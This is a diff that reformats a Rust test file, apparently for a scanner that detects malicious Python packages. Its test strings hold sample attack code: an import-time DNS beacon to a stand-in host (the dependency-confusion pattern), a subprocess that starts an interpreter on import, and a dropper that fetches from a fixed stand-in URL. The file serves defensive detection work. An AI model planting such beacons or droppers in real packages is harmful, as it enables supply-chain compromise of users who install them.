@@ -219,7 +219,8 @@ fn a_function_called_at_module_level_runs_on_import_but_not_under_a_main_guard()
 fn a_fixed_host_called_on_import_is_a_beacon_and_a_parameter_is_not() {
     // The shape of real dependency-confusion beacons: a DNS lookup of a fixed name in a
     // function the module body calls.
-    let beacon = "import socket\ndef _check():\n    socket.gethostbyname('pkg.collector.test')\n_check()\n";
+    let beacon =
+        "import socket\ndef _check():\n    socket.gethostbyname('pkg.collector.test')\n_check()\n";
     let rules = rules_for(beacon);
     assert!(
         rules.iter().any(|r| r == "correlate/import-time-beacon"),
@@ -240,13 +241,17 @@ fn an_interpreter_started_on_import_is_a_loader_but_not_inside_a_function() {
     let loader = "import subprocess\ntry:\n    p = subprocess.Popen([\"python3\", \"-c\", \"from helper import run\"], close_fds=True)\nexcept:\n    pass\n";
     let rules = rules_for(loader);
     assert!(
-        rules.iter().any(|r| r == "correlate/import-time-interpreter"),
+        rules
+            .iter()
+            .any(|r| r == "correlate/import-time-interpreter"),
         "{rules:?}"
     );
     let tool = "import subprocess\ndef check():\n    return subprocess.run([\"python3\", \"-c\", \"import sys\"])\n";
     let rules = rules_for(tool);
     assert!(
-        !rules.iter().any(|r| r == "correlate/import-time-interpreter"),
+        !rules
+            .iter()
+            .any(|r| r == "correlate/import-time-interpreter"),
         "{rules:?}"
     );
 }
@@ -266,7 +271,10 @@ fn a_function_that_runs_what_it_fetched_from_a_fixed_host_is_a_dropper() {
         "{rules:?}"
     );
     // An updater that fetches what it is told to keeps the weaker finding only.
-    let updater = dropper.replace("file_url = \"https://cdn.dropper.test/download\"", "file_url = url");
+    let updater = dropper.replace(
+        "file_url = \"https://cdn.dropper.test/download\"",
+        "file_url = url",
+    );
     let rules = rules_for(&updater);
     assert!(
         !rules
